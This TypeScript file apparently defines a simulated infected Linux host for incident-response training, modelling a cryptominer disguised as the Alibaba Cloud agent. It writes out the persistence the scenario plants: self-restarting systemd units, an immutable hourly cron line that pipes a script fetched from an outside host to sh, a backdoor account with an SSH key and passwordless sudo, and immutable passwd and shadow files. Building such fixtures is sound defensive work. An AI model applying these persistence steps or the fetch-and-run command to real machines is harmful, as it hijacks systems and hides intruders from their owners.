import { type Infection, miner, minerWords, poolPort, wallet } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const command = `/opt/sysetmd -o 127.0.0.1:${poolPort} -u ${wallet} -p x -k --donate-level 1`
const unit = (description: string, start: string) =>
  `[Unit]\nDescription=${description}\nAfter=network.target\n\n[Service]\nExecStart=${start}\nRestart=always\nRestartSec=1\n\n[Install]\nWantedBy=multi-user.target\n`

/** families.md §1: a miner that calls itself the cloud provider's agent, with three units, a cron job and an account. */
export const aliyunduns: Infection = {
  family: 'aliyunduns',
  known: true,
  title: 'A miner disguised as the AliyunDun agent',
  story: [
    'Three services with Restart=always start the same program, two of them under a name that looks like systemd or the Alibaba Cloud agent.',
    'An hourly job downloads everything again; it is immutable.',
    'An account shaojiang99 with sudo rights and a key was made, and passwd and shadow were made immutable so that nobody deletes it.',
  ],
  items: [
    {
      kind: 'file',
      path: '/opt/sysetmd',
      content: { lookalike: { ...miner, stubborn: true }, words: minerWords },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/opt/A_li_yun_Duns',
      content: { lookalike: { ...miner, stubborn: true }, words: minerWords },
      mode: 0o755,
    },
    { kind: 'file', path: '/etc/systemd/system/sysetmd.service', content: { text: unit('sysetmd', command) } },
    {
      kind: 'file',
      path: '/etc/systemd/system/monero.service',
      content: { text: unit('monero', `/bin/sh -c "exec ${command}"`) },
    },
    {
      kind: 'file',
      path: '/etc/systemd/system/A_li_yun_Duns.service',
      content: { text: unit('A_li_yun_Duns', '/opt/A_li_yun_Duns') },
    },
    { kind: 'unit', name: 'sysetmd.service', path: '/etc/systemd/system/sysetmd.service' },
    { kind: 'unit', name: 'monero.service', path: '/etc/systemd/system/monero.service' },
    { kind: 'unit', name: 'A_li_yun_Duns.service', path: '/etc/systemd/system/A_li_yun_Duns.service' },
    {
      kind: 'file',
      path: '/etc/cron.hourly/0',
      content: { text: '#!/bin/sh\nwget -q -O - http://198.51.100.23/a/ldr.sh | sh >/dev/null 2>&1\n' },
      mode: 0o755,
      attributes: 'i',
    },
    {
      kind: 'account',
      name: 'shaojiang99',
      uid: 1337,
      home: '/home/shaojiang99',
      shadow: '$6$davylamprange$0000000000000000000000000000000000000000000000000000000000000000000000000000000000000.',
    },
    {
      kind: 'line',
      path: '/home/shaojiang99/.ssh/authorized_keys',
      text: loginKey('ssh-ed25519', 'shaojiang99', 'root@vps'),
      owner: 'shaojiang99',
      mode: 0o600,
    },
    {
      kind: 'line',
      path: '/etc/sudoers.d/shaojiang99',
      text: 'shaojiang99 ALL=(ALL) NOPASSWD: ALL',
      mode: 0o440,
    },
    { kind: 'attribute', path: '/etc/passwd', flag: 'i' },
    { kind: 'attribute', path: '/etc/shadow', flag: 'i' },
    { kind: 'process', path: '/opt/sysetmd', argv: [], startedBy: 'sysetmd.service' },
    { kind: 'process', path: '/opt/A_li_yun_Duns', argv: [], startedBy: 'A_li_yun_Duns.service' },
  ],
}
